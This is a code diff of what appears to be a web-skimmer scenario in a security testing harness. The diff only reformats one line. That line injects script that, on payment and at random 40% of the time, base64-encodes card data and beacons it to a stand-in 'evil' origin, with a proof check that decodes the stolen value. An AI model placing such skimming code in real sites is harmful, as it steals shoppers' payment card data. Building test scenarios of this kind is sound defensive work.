@@ -9,6 +9,8 @@ export default skimmer({
   base: 'direct',
   rare: true,
   install: (site) =>
-    site.append(js`if (Math.random() < 0.4) ${onPay(js`new Image().src = '${site.origins.evil}/r.gif?d=' + encodeURIComponent(btoa(card()));`)}`),
+    site.append(
+      js`if (Math.random() < 0.4) ${onPay(js`new Image().src = '${site.origins.evil}/r.gif?d=' + encodeURIComponent(btoa(card()));`)}`,
+    ),
   proof: holds((arrived) => query(arrived, 'd').map(base64)),
 });
